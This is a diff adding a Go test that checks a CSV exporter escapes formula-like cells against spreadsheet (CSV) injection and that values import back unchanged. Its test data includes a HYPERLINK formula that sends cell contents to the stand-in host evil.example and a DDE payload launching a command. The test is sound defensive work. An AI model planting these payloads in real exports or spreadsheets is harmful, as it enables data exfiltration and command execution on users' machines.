@@ -2,6 +2,8 @@ package importer
 
 import (
 	"bytes"
+	"encoding/csv"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -52,6 +54,56 @@ func TestReadRefusals(t *testing.T) {
 	} {
 		if _, err := Read(strings.NewReader(file), "x", []string{"b"}); !errs.Is(err, errs.Invalid) {
 			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
+
+// TestCSVCellsAreNotFormulas: an export never hands a spreadsheet a cell it
+// would run as a formula (OWASP's CSV injection), keeps plain numbers as
+// numbers, and imports back unchanged.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	cells := map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
+		"+51 53 999 111 222":                         "'+51 53 999 111 222",
+		"-2+3+cmd|' /C calc'!A0":                     "'-2+3+cmd|' /C calc'!A0",
+		"@SUM(1,2)":                                  "'@SUM(1,2)",
+		"\t=1+2":                                     "'\t=1+2",
+		"\r=1+2":                                     "'\r=1+2",
+		"-":                                          "'-",
+		"-12.5":                                      "-12.5",
+		"+3":                                         "+3",
+		"-1.5e-07":                                   "-1.5e-07",
+		"Loco en conserva":                           "Loco en conserva",
+		"'=already text":                             "''=already text",
+		"'-5":                                        "'-5",
+		"":                                           "",
+	}
+	var header []string
+	var row []string
+	for in := range cells {
+		header = append(header, "c"+strconv.Itoa(len(header)))
+		row = append(row, in)
+	}
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, header, [][]string{row}); err != nil {
+		t.Fatal(err)
+	}
+	written, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, in := range row {
+		if got := written[1][i]; got != cells[in] {
+			t.Errorf("%q written as %q, want %q", in, got, cells[in])
+		}
+	}
+	tbl, err := Read(&buf, "export.csv", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, in := range row {
+		if got := tbl.Rows[0].Cells[header[i]]; got != in {
+			t.Errorf("%q imported back as %q", in, got)
 		}
 	}
 }
